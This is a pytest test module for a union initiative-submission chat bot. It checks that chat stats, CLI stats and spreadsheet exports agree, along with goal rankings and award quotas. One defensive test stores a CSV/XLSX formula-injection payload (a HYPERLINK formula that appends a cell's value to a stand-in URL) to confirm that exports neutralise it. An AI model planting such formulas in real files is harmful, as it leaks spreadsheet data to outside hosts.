"""Figures that reconcile: for any period of days, a month or a quarter, /stats in the chat,
`sangkien stats` and the export count the same submissions."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from bot import admin
from bot.app import App
from bot.awards import season
from bot.clock import FixedClock
from bot.config import Settings
from bot.review import ACCEPTED, WITHDRAWN, change_status, file
from bot.stats.export import EVERY
from bot.stats.views import Period
from bot.store.models import Nomination, Submission
from bot.store.uow import UnitOfWork
from rules.campaigns import TZ
from rules.verdict import Ok
from tests.conftest import running_app
from tests.fakechat import FakeChat
from tests.flow import grant_role, login
from tests.records import export_of_the_country, placeholder_submission


def local(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=TZ)  # type: ignore[misc]


# Filed at these local times: around midnight, at month and quarter ends, a Sunday night.
FILED = [
    ("t24", local(2022, 1, 31, 23, 50)),
    ("t24.hiep_hoa", local(2022, 2, 1, 0, 10)),
    ("t24.hiep_hoa", local(2022, 2, 27, 23, 59)),  # a Sunday: the week of 21/02
    ("t24", local(2022, 2, 28, 0, 1)),
    ("t24.lang_giang", local(2022, 3, 1, 8, 0)),
    ("t24", local(2022, 3, 6, 23, 30)),
    ("t24.lang_giang", local(2022, 3, 31, 23, 59)),
    ("t24", local(2022, 4, 1, 0, 0)),
    ("t34", local(2022, 3, 15, 12, 0)),  # another province: never in Bắc Giang's figures
]
WITHDRAWN_INDEX = 5  # withdrawn: out of every count

PERIODS = [  # what the officer types, the first and last day it means
    ("tháng 3/2022", date(2022, 3, 1), date(2022, 3, 31)),
    ("thang 2/2022", date(2022, 2, 1), date(2022, 2, 28)),
    ("quý 1/2022", date(2022, 1, 1), date(2022, 3, 31)),
    ("quy 2/2022", date(2022, 4, 1), date(2022, 6, 30)),
    ("28/02/2022 06/03/2022", date(2022, 2, 28), date(2022, 3, 6)),  # one ISO week
    ("01/02/2022 27/02/2022", date(2022, 2, 1), date(2022, 2, 27)),  # cuts two weeks
    ("năm 2022", date(2022, 1, 1), date(2022, 12, 31)),
]


def expected(first: date, last: date) -> int:
    return sum(
        1
        for index, (unit, at) in enumerate(FILED)
        if unit.startswith("t24") and index != WITHDRAWN_INDEX and first <= at.date() <= last
    )


async def seed(app: App) -> None:
    services = app.engine.services
    async with UnitOfWork(app.sessions) as uow:
        author = await uow.people.add_person("+84912000101", services.clock.now(), verified=False)
        for index, (unit, at) in enumerate(FILED):
            submission = placeholder_submission(
                at,
                draft_id=f"period-{index}",
                person_id=author.id,
                channel="fake",
                unit_code=unit,
                title=f"Sáng kiến {index}",
                description="Mô tả",
            )
            await file(uow, services.catalog, [(submission, [])], "SK")
            if index == WITHDRAWN_INDEX:
                assert await change_status(
                    uow, services.catalog, submission, WITHDRAWN, None, author.id, at
                )
        await uow.commit()


def total_in(stats_text: str) -> int:
    return int(re.search(r"Tổng số sáng kiến: ([\d.]+)", stats_text)[1].replace(".", ""))  # type: ignore[index]


@pytest.mark.parametrize(("typed", "first", "last"), PERIODS)
async def test_stats_cli_and_export_count_the_same_rows(
    app: App, clock: FixedClock, tmp_path: Path, typed: str, first: date, last: date
) -> None:
    await seed(app)
    officer = FakeChat(app.engine, user_id="officer", channel="telegram")
    await login(officer, "0987 000 111")
    await grant_role(app, clock, officer, "officer", "t24")
    want = expected(first, last)

    await officer.send(f"/stats {typed}")
    assert f"{first:%d/%m/%Y}" in officer.text and f"{last:%d/%m/%Y}" in officer.text
    in_chat = total_in(officer.text)
    await officer.send(f"/xuat {typed} tất cả")
    exported = int(re.search(r"Bắc Giang, (\d+) sáng kiến", officer.text)[1])  # type: ignore[index]
    on_command_line = total_in(await admin.print_stats(app, "t24", first, last, recount=False))
    rows = await admin.write_export(
        app, "t24", first, last, tmp_path / "x.xlsx", None, False, EVERY
    )
    assert (in_chat, exported, on_command_line, rows) == (want, want, want, want)


async def test_named_periods_that_do_not_exist_are_explained(app: App, clock: FixedClock) -> None:
    officer = FakeChat(app.engine, user_id="officer", channel="telegram")
    await login(officer, "0987 000 111")
    await grant_role(app, clock, officer, "officer", "t24")
    await officer.send("/stats tháng 13/2022")
    assert "Kỳ báo cáo chưa đúng" in officer.text
    await officer.send("/stats quý 5/2022")
    assert "Kỳ báo cáo chưa đúng" in officer.text


async def test_formula_looking_text_stays_text_in_xlsx_and_csv(app: App) -> None:
    title = '=HYPERLINK("http://example.invalid/?"&B5,"Xem")'
    services = app.engine.services
    async with UnitOfWork(app.sessions) as uow:
        author = await uow.people.add_person("+84912000102", services.clock.now(), verified=False)
        submission = placeholder_submission(
            services.clock.now(),
            draft_id="formula",
            person_id=author.id,
            channel="fake",
            unit_code="t24",
            title=title,
            description="@SUM(1+1)",
        )
        await file(uow, services.catalog, [(submission, [])], "SK")
        await uow.commit()
    files = await export_of_the_country(app)
    sheet = openpyxl.load_workbook(io.BytesIO(files.xlsx)).active
    row = next(sheet.iter_rows(min_row=6))  # under the union, the title lines and the header
    cells = {cell.value: cell.data_type for cell in row}
    assert cells[title] == "s" and cells["@SUM(1+1)"] == "s"
    line = list(csv.reader(io.StringIO(files.csv.decode("utf-8-sig"))))[1]
    assert f"'{title}" in line and "'@SUM(1+1)" in line


async def test_the_award_file_sums_values_and_keeps_dates_as_dates(
    app: App, clock: FixedClock
) -> None:
    await seed(app)
    async with UnitOfWork(app.sessions) as uow:
        for submission in (await uow.session.execute(select(Submission))).scalars():
            submission.benefit_vnd = 120_000_000 if submission.id % 2 else None
        await uow.commit()
    files = await export_of_the_country(app, Period(date(2022, 2, 1), date(2022, 3, 31)))
    sheet = openpyxl.load_workbook(io.BytesIO(files.xlsx)).active
    lines = [row for row in sheet.iter_rows(values_only=True) if any(row)]
    assert lines[0][0] == "TỔNG LIÊN ĐOÀN LAO ĐỘNG VIỆT NAM"  # the country's file
    assert "từ 01/02/2022 đến 31/03/2022 – trạng thái: tất cả (trừ đã rút)" in lines[3][0]
    data = lines[5 : 5 + files.rows]
    assert files.rows == 6  # February and March, the withdrawn one left out
    assert all(isinstance(row[13], datetime) for row in data)  # real dates
    values = [row[14] for row in data]
    assert all(v in (120_000_000, None) for v in values)
    total = lines[5 + files.rows]
    assert total[0] == "Tổng cộng" and total[14] == sum(v or 0 for v in values)
    assert any("TM. BAN CHẤP HÀNH" in str(cell) for row in lines[-3:] for cell in row)
    assert sheet.column_dimensions["E"].width == 60  # the summary column is wide


async def test_goals_and_emulation_groups_from_a_file_rank_units(
    db_url: str, make_settings: Callable[..., Settings], clock: FixedClock, tmp_path: Path
) -> None:
    from bot.goals import GoalsFileError, import_goals

    goals_file = tmp_path / "goals.yaml"
    async with running_app(make_settings(db_url, goals_file=goals_file), clock) as app:
        services = app.engine.services
        wrong = tmp_path / "wrong.csv"
        wrong.write_text("mã đơn vị,chỉ tiêu\nt99,10\nt24,mười\n", "utf-8")
        with pytest.raises(GoalsFileError) as refused:
            import_goals(goals_file, services.campaign, services.catalog, wrong)
        assert "dòng 2 (t99): không có đơn vị" in str(refused.value)
        assert "dòng 3 (t24): “mười” không phải là số" in str(refused.value)
        assert not goals_file.exists()
        table = tmp_path / "goals.csv"
        table.write_text(
            "Mã đơn vị,Chỉ tiêu,Số đoàn viên,Cụm khối thi đua\n"
            "t24,10,100,Khối thi đua miền núi phía Bắc\n"
            "t34,4,50,Khối thi đua miền núi phía Bắc\n",
            "utf-8",
        )
        said = import_goals(goals_file, services.campaign, services.catalog, table)
        assert "Đã ghi chỉ tiêu của 2 đơn vị và 1 cụm, khối thi đua" in said
    async with running_app(make_settings(db_url, goals_file=goals_file), clock) as app:
        await seed(app)
        officer = FakeChat(app.engine, user_id="officer", channel="telegram")
        await login(officer, "0987 000 111")
        await grant_role(app, clock, officer, "officer", "*")
        await officer.send("/stats khối miền núi quý 1/2022")
        ranking = officer.text
        assert "XẾP HẠNG KHỐI THI ĐUA MIỀN NÚI PHÍA BẮC" in ranking
        assert "từ 01/01/2022 đến 31/03/2022" in ranking
        # Bắc Giang 6 of 10 in the quarter (60%, the withdrawn one out) before Thái Bình 1 of 4
        assert ranking.index("1. Bắc Giang: 6 sáng kiến") < ranking.index("2. Thái Bình: 1")
        assert "đạt 60,0% chỉ tiêu, tham gia 1,0%" in ranking and "đạt 25,0%" in ranking
        await officer.send("/stats bac giang")
        assert "Chỉ tiêu: 10" in officer.text and "của 100 đoàn viên" in officer.text
        await officer.send("/stats khối đồng bằng")
        assert "Không có cụm, khối thi đua “dong bang”" in officer.text


@asynccontextmanager
async def two_accepted_with_a_quota_of_one(
    url: str, make_settings: Callable[..., Settings], clock: FixedClock, tmp_path: Path
) -> AsyncIterator[App]:
    """The seeded app whose provincial award level takes one initiative per province, and
    Bắc Giang's first two submissions valid."""
    from bot.config import ROOT

    text = (ROOT / "campaigns.yaml").read_text(encoding="utf-8")
    campaigns = tmp_path / "campaigns.yaml"
    campaigns.write_text(text.replace("quota: null", "quota: 1", 1), "utf-8")
    async with running_app(make_settings(url, campaigns_file=campaigns), clock) as app:
        services = app.engine.services
        await seed(app)
        async with UnitOfWork(app.sessions) as uow:
            for code in ("SK-2022-000001", "SK-2022-000002"):
                item = await uow.submissions.by_code(code)
                assert item is not None
                await change_status(
                    uow, services.catalog, item, ACCEPTED, None, None, item.submitted_at
                )
            await uow.commit()
        yield app


PROVINCE_LEVEL = "Đề nghị: cấp tỉnh"


async def test_award_proposals_stay_within_the_quota_and_make_their_own_file(
    db_url: str, make_settings: Callable[..., Settings], clock: FixedClock, tmp_path: Path
) -> None:
    async with two_accepted_with_a_quota_of_one(db_url, make_settings, clock, tmp_path) as app:
        officer = FakeChat(app.engine, user_id="officer", channel="telegram")
        await login(officer, "0987 000 111")
        await grant_role(app, clock, officer, "officer", "t24")
        await officer.send("/duyet SK-2022-000002")
        assert "✅ Hợp lệ" not in officer.labels  # decided: only the award is left to do
        await officer.click(PROVINCE_LEVEL)
        assert "Đã đề nghị SK-2022-000002 ở cấp “LĐLĐ tỉnh" in officer.text
        assert "(1/1 của đơn vị)" in officer.text
        assert "⭐ Đã đề nghị khen thưởng: LĐLĐ tỉnh" in officer.text
        await officer.send("/duyet SK-2022-000001")
        await officer.click(PROVINCE_LEVEL)
        assert "Bắc Giang đã đề nghị đủ 1/1 sáng kiến" in officer.text
        await officer.send("/xuat đề nghị khen thưởng cấp tỉnh, ngành")
        assert "Bảng tổng hợp: Bắc Giang, 1 sáng kiến hợp lệ." in officer.text
        await officer.send("/xuat đề nghị khen thưởng tổng liên đoàn")
        assert "Bảng tổng hợp: Bắc Giang, 0 sáng kiến hợp lệ." in officer.text
        await officer.send("/duyet SK-2022-000002")
        await officer.click("Rút đề nghị: cấp tỉnh")
        await officer.send("/duyet SK-2022-000001")
        await officer.click(PROVINCE_LEVEL)
        assert "Đã đề nghị SK-2022-000001" in officer.text


async def test_a_proposal_waits_for_one_in_progress_and_stays_within_the_quota(
    any_db_url: str, make_settings: Callable[..., Settings], clock: FixedClock, tmp_path: Path
) -> None:
    async with two_accepted_with_a_quota_of_one(any_db_url, make_settings, clock, tmp_path) as app:
        services = app.engine.services
        officer = FakeChat(app.engine, user_id="officer", channel="telegram")
        await login(officer, "0987 000 111")
        await grant_role(app, clock, officer, "officer", "t24")
        await officer.send("/duyet SK-2022-000002")

        # Another officer's nomination of SK-2022-000001 is half done (counted, not
        # committed) when this one presses: this one must wait for it, then find the quota
        # full.
        async with UnitOfWork(app.sessions) as other:
            first = await other.submissions.by_code("SK-2022-000001")
            assert first is not None
            level = services.campaign.award_levels[0]
            request = season.Request(
                services.campaign,
                services.catalog,
                level,
                first,
                season.Actor(None, None, "cli"),
                clock.now(),
            )
            assert isinstance(await season.nominate(other, request, None), Ok)
            await other.session.flush()
            pressing = asyncio.create_task(officer.click(PROVINCE_LEVEL))
            await asyncio.sleep(0.3)
            await other.commit()
        await pressing

        assert "Bắc Giang đã đề nghị đủ 1/1 sáng kiến" in officer.text
        async with app.sessions() as session:
            nominated = await session.scalars(
                select(Submission.code)
                .join(Nomination, Nomination.submission_id == Submission.id)
                .where(Nomination.withdrawn_at.is_(None))
            )
            assert list(nominated) == ["SK-2022-000001"]
